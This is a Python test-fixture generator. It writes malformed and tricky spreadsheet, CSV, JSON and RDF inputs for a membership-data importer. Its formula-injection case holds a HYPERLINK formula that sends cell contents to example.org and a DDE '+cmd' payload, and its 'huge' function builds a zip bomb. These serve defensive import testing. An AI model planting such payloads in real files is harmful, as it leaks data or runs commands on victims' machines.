"""Makes the input of every case of the corpus: `python tests/corpus/imports/make.py`.

Each lies in a folder of its own with `expected.json` beside it; what is huge is made by `huge` when a test asks for it.
"""

import csv
import io
import json
import re
import zipfile
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl

HERE = Path(__file__).parent
HEAD = ["协议", "机构", "国家或地区", "角色", "状态", "开始", "来源"]
GOOD = ["国际职业工程师协议", "中国工程师联合体", "中国", "成员", "预备成员", "2026年3月1日", "iea-secretariat"]
ENGLISH = ["Agreement", "Organisation", "Country", "Role", "Status", "Start", "Source"]
IPEA = GOOD[0]
Table = Sequence[Sequence[object]]
WHEN = (2026, 1, 1, 0, 0, 0)


def start(written: object) -> list[object]:
    return [*GOOD[:5], written, GOOD[6]]


def text(table: Table, encoding: str = "utf-8", delimiter: str = ",", before: str = "") -> bytes:
    file = io.StringIO()
    csv.writer(file, delimiter=delimiter).writerows(table)
    return (before + file.getvalue()).encode(encoding)


def book(table: Table, title: str = "成员") -> Any:
    made = openpyxl.Workbook()
    page: Any = made.active
    page.title = title
    for row in table:
        page.append(list(row))
    return made


def saved(made: Any) -> bytes:
    """The workbook's bytes, the same however often it is made."""
    file = io.BytesIO()
    made.save(file)
    content = {part.filename: data for part, data in parts(file.getvalue())}
    content["docProps/core.xml"] = re.sub(
        rb"\d{4}-\d\d-\d\dT[\d:]+Z", b"2026-01-01T00:00:00Z", content["docProps/core.xml"]
    )
    return repacked(content)


def parts(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [(part, package.read(part)) for part in package.infolist()]


def repacked(content: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        for name, data in content.items():
            entry = zipfile.ZipInfo(name, WHEN)
            entry.compress_type = zipfile.ZIP_DEFLATED
            package.writestr(entry, data)
    return file.getvalue()


def sheet(table: Table, title: str = "成员") -> bytes:
    return saved(book(table, title))


def merged() -> bytes:
    made = book(
        [
            ["2026年成员情况"],
            ["协议", "机构", "国家或地区", "角色", "状态", "任期", None, "来源"],
            [*([None] * 5), "开始", "结束", None],
            [*GOOD[:6], None, GOOD[6]],
            [None, "肯尼亚工程师学会", "肯尼亚", "成员", "预备成员", "2025", None, GOOD[6]],
        ]
    )
    page = made.active
    for area in ("A1:H1", "A2:A3", "B2:B3", "C2:C3", "D2:D3", "E2:E3", "F2:G2", "H2:H3", "A4:A5"):
        page.merge_cells(area)
    return saved(made)


def hidden_sheet() -> bytes:
    made = book([HEAD, GOOD])
    other = made.create_sheet("旧名单")
    other.append(HEAD)
    other.sheet_state = "hidden"
    made.create_sheet("空表").sheet_state = "hidden"
    return saved(made)


def hidden_rows() -> bytes:
    made = book([HEAD, GOOD, *[start(str(year)) for year in (2021, 2022, 2023)]])
    for row in (3, 4, 5):
        made.active.row_dimensions[row].hidden = True
    return saved(made)


def hidden_column() -> bytes:
    made = book([[*HEAD, "备注"], [*GOOD, "内部意见"]])
    made.active.column_dimensions["H"].hidden = True
    return saved(made)


def formulas() -> bytes:
    return sheet([HEAD, start("=DATE(2026,3,1)"), [*GOOD[:6], "=A2"]])


def failed_formula() -> bytes:
    made = book([HEAD, start("#REF!")])
    made.active["F2"].data_type = "e"
    return saved(made)


def macros() -> bytes:
    return repacked({**{part.filename: data for part, data in parts(sheet([HEAD, GOOD]))}, "xl/vbaProject.bin": b"x"})


def truncated() -> bytes:
    whole = sheet([HEAD, GOOD])
    return whole[: len(whole) // 2]


def old_container(name: str) -> bytes:
    """The head of a file in the container of older programs, with the name of a stream."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + name.encode("utf-16-le") + b"\0" * 64


def dates() -> bytes:
    forms = [
        *(
            "2024年3月1日",
            "二〇二四年三月一日",
            "二○二四年十二月二十一日",
            "２０２４年３月１日",
            "2024 年 3 月",
            "2024.3.1",
            "20240301",
        ),
        *("1 March 2024", "March 1, 2024", "Mar 2024", "约2024年", "2024?", "13/3/2024", "1/3/2024", "24/3/1"),
        *("45352", "至今", "2024年上半年", "2024-02-30", "不详"),
    ]
    rows = [[f"sample-{n}", form, "meeting", "Meeting of engineers", GOOD[6]] for n, form in enumerate(forms, 1)]
    return text([["标识", "日期", "类别", "事件", "来源"], *rows])


def excel_days() -> bytes:
    made = book([HEAD, start(datetime(2026, 3, 1)), start(46082)])
    made.active["F3"].number_format = "General"
    return saved(made)


def wrong_order() -> bytes:
    """The sheet that refers comes first; the body that it names is in the last, by name."""
    made = book([HEAD, [IPEA, "示例工程师学会", "马来西亚", "成员", "预备成员", "2026", GOOD[6]]])
    made.create_sheet("空白")
    other = made.create_sheet("机构")
    other.append(["标识", "英文名称", "中文名称", "类别", "国家或地区", "来源"])
    other.append(
        ["sample-se", "Sample Society of Engineers", "示例工程师学会", "national-society", "马来西亚", GOOD[6]]
    )
    return saved(made)


def repeated_heading() -> bytes:
    return sheet(
        [
            ["国际职业工程师协议成员名单"],
            [],
            HEAD,
            ENGLISH,
            GOOD,
            HEAD,
            [*GOOD[:1], "肯尼亚工程师学会", "肯尼亚", "成员", "预备成员", "2025", GOOD[6]],
            ["合计", 2],
            [],
            ["注：本表截至2026年3月。"],
            ["资料来源：国际工程联盟网站"],
        ]
    )


GOOD_JSON = json.dumps([dict(zip(HEAD, GOOD, strict=True))], ensure_ascii=False).encode()
CSV_INJECTION = [
    [*HEAD, "备注"],
    [*GOOD, '=HYPERLINK("http://example.org/?x="&A1,"更多")'],
    ["+cmd|' /C calc'!A0", "肯尼亚工程师学会", "肯尼亚", "成员", "预备成员", "2025", GOOD[6], "@SUM(1+1)"],
]
CASES: dict[str, tuple[str, bytes]] = {
    "plain": ("members.csv", text([HEAD, GOOD])),
    "byte-order-mark": ("members.csv", text([HEAD, GOOD], "utf-8-sig")),
    "gb18030": ("成员.csv", text([HEAD, GOOD], "gb18030")),
    "utf-16": ("members.csv", text([HEAD, GOOD], "utf-16")),
    "semicolons": ("members.csv", text([HEAD, GOOD], delimiter=";")),
    "separator-told": ("members.csv", text([HEAD, GOOD], delimiter=";", before="sep=;\r\n")),
    "tabs": ("members.txt", text([HEAD, GOOD], delimiter="\t")),
    "json": ("members.json", GOOD_JSON),
    "english": (
        "members.xlsx",
        sheet([ENGLISH, ["IPEA", "CSE", "China", "member", "provisional", "1 March 2026", GOOD[6]]], "Members"),
    ),
    "swapped-columns": ("members.xlsx", sheet([HEAD[::-1], GOOD[::-1]])),
    "full-width": (
        "members.xlsx",
        sheet(
            [
                HEAD,
                [
                    "国际职业工程师协议",
                    "ＣＳＥ",
                    "ＣＮ",
                    "成员",
                    "预备成员",
                    "２０２６．０３．０１",
                    "ｉｅａ－ｓｅｃｒｅｔａｒｉａｔ",
                ],
            ]
        ),
    ),
    "merged": ("members.xlsx", merged()),
    "repeated-heading-and-notes": ("members.xlsx", repeated_heading()),
    "excel-days": ("members.xlsx", excel_days()),
    "wrong-sheet-order": ("members.xlsx", wrong_order()),
    "swapped-contents": ("members.csv", text([HEAD, [GOOD[1], GOOD[0], *GOOD[2:]]])),
    "wrong-types": (
        "members.xlsx",
        sheet([HEAD, [3.5, True, 86, "首席", "会员甲", "去年", "http://example.org/nowhere"], start(-1)]),
    ),
    "duplicate-ids": (
        "bodies.csv",
        text(
            [
                ["标识", "英文名称", "类别", "国家或地区", "来源"],
                ["sample-se", "Sample Society of Engineers", "national-society", "马来西亚", GOOD[6]],
                ["sample-se", "Another Society of Engineers", "national-society", "马来西亚", GOOD[6]],
                ["sample-se", "Sample Society of Engineers", "national-society", "马来西亚", GOOD[6]],
                ["Sample SE", "Third Society of Engineers", "society", "马来西亚", GOOD[6]],
            ]
        ),
    ),
    "dates-as-text": ("events.csv", dates()),
    "unknown-columns": (
        "members.csv",
        text([["序号", *HEAD, "参加机够", "加入日", "", "联系电话"], ["1", *GOOD, "x", "2026", "y", "010"]]),
    ),
    "unknown-country": (
        "members.csv",
        text([HEAD, [*GOOD[:2], "毛里球斯", *GOOD[3:]], [*GOOD[:2], "Malasia", *GOOD[3:5], "2025", GOOD[6]]]),
    ),
    "ambiguous-names": (
        "members.csv",
        text(
            [
                HEAD,
                [IPEA, "IEM", None, "成员", "预备成员", "2026", GOOD[6]],
                [IPEA, "IEM", "毛里求斯", "成员", "预备成员", "2026", GOOD[6]],
            ]
        ),
    ),
    "missing-columns": ("members.csv", text([HEAD[:3], GOOD[:3]])),
    "no-heading": ("members.csv", text([GOOD, GOOD])),
    "empty-cells": (
        "members.csv",
        text([HEAD, ["", "", "", "", "", "", ""], [*GOOD[:4], "", *GOOD[5:]], ["", *GOOD[1:]]]),
    ),
    "deletion": (
        "members.csv",
        text(
            [
                [*HEAD, "结束", "备注"],
                [IPEA, "iem-my", "马来西亚", "founder", "正式成员", "1999", GOOD[6], "（删除）", "(delete)"],
                [IPEA, "（删除）", "中国", "（删除）", "预备成员", "2026", GOOD[6], "", ""],
            ]
        ),
    ),
    "formula-injection": ("members.csv", text(CSV_INJECTION)),
    "formulas-without-values": ("members.xlsx", formulas()),
    "failed-formula": ("members.xlsx", failed_formula()),
    "hidden-sheet": ("members.xlsx", hidden_sheet()),
    "hidden-rows": ("members.xlsx", hidden_rows()),
    "hidden-column": ("members.xlsx", hidden_column()),
    "empty-sheets": ("members.xlsx", sheet([])),
    "empty-file": ("members.csv", b""),
    "only-heading": ("members.csv", text([HEAD])),
    "macros": ("members.xlsm", macros()),
    "truncated": ("members.xlsx", truncated()),
    "old-workbook": ("members.xls", old_container("Workbook")),
    "password": ("members.xlsx", old_container("EncryptedPackage")),
    "opendocument": (
        "members.ods",
        repacked({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
    ),
    "binary-workbook": ("members.xlsb", repacked({"xl/workbook.bin": b"x"})),
    "web-page": ("members.xls", "<html><table><tr><td>协议</td></tr></table></html>".encode()),
    "xml-workbook": (
        "members.xml",
        b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
    ),
    "pdf": ("members.pdf", b"%PDF-1.7\n"),
    "other-package": ("members.zip", repacked({"a.txt": b"x"})),
    "open-quote": ("members.csv", (",".join(HEAD) + '\n"' + ",".join(GOOD) + "\n").encode()),
    "damaged-text": ("members.csv", text([HEAD, GOOD])[:-9] + b"\xe5\xff\n"),
    "broken-json": ("members.json", GOOD_JSON[:-20]),
    "json-of-numbers": ("members.json", b"[1, 2]"),
    "turtle": (
        "member.ttl",
        b"""@prefix aa: <https://w3id.org/accord-atlas/ontology#> .
@prefix id: <https://w3id.org/accord-atlas/id/> .
@prefix edtf: <http://id.loc.gov/datatypes/edtf/> .
<https://w3id.org/accord-atlas/id/participation/ipea.cse-cn.cn.provisional> a aa:Participation ;
  aa:agreement <https://w3id.org/accord-atlas/id/agreement/ipea> ;
  aa:participant <https://w3id.org/accord-atlas/id/organization/cse-cn> ;
  aa:jurisdiction <https://w3id.org/accord-atlas/id/jurisdiction/cn> ;
  aa:role <https://w3id.org/accord-atlas/id/concept/role.member> ;
  aa:status <https://w3id.org/accord-atlas/id/concept/participation-status.provisional> ;
  aa:start "2026-03-01"^^edtf:EDTF ;
  aa:source <https://w3id.org/accord-atlas/id/source/iea-secretariat> .
""",
    ),
    "foreign-statements": (
        "member.nt",
        b"<https://w3id.org/accord-atlas/id/participation/ipea.iem-my.my.authorised> "
        b'<https://schema.org/telephone> "1" .\n'
        b'<https://example.org/x> <http://www.w3.org/2000/01/rdf-schema#label> "y" .\n'
        b"<https://w3id.org/accord-atlas/id/jurisdiction/xx> "
        b'<http://www.w3.org/2000/01/rdf-schema#label> "Atlantis"@en .\n',
    ),
    "broken-turtle": ("member.ttl", b"@prefix aa: <https://w3id.org/accord-atlas/ontology#> .\naa:x aa:y\n"),
}


def huge(name: str) -> tuple[str, bytes]:
    """A file that is too large to be kept: rows without end, or a package that unpacks to very much."""
    if name == "bomb":
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
            package.writestr("xl/workbook.xml", b"0" * 60_000_000)
        return "members.xlsx", file.getvalue()
    if name == "wrong-rows":
        return "members.csv", text(
            [HEAD, *[[IPEA, f"无名学会{n}", "中国", "首席", "", "去年", ""] for n in range(100_000)]]
        )
    if name == "too-many":
        rows = [[f"sample-{n}", "2026", "meeting", f"Meeting {n}", GOOD[6]] for n in range(100_000)]
        return "events.csv", text([["id", "date", "kind", "what", "source"], *rows])
    if name == "same-rows":
        return "members.csv", text([HEAD, *[GOOD] * 100_000])
    raise KeyError(name)


if __name__ == "__main__":
    for case, (file_name, content) in CASES.items():
        (HERE / case).mkdir(exist_ok=True)
        (HERE / case / file_name).write_bytes(content)
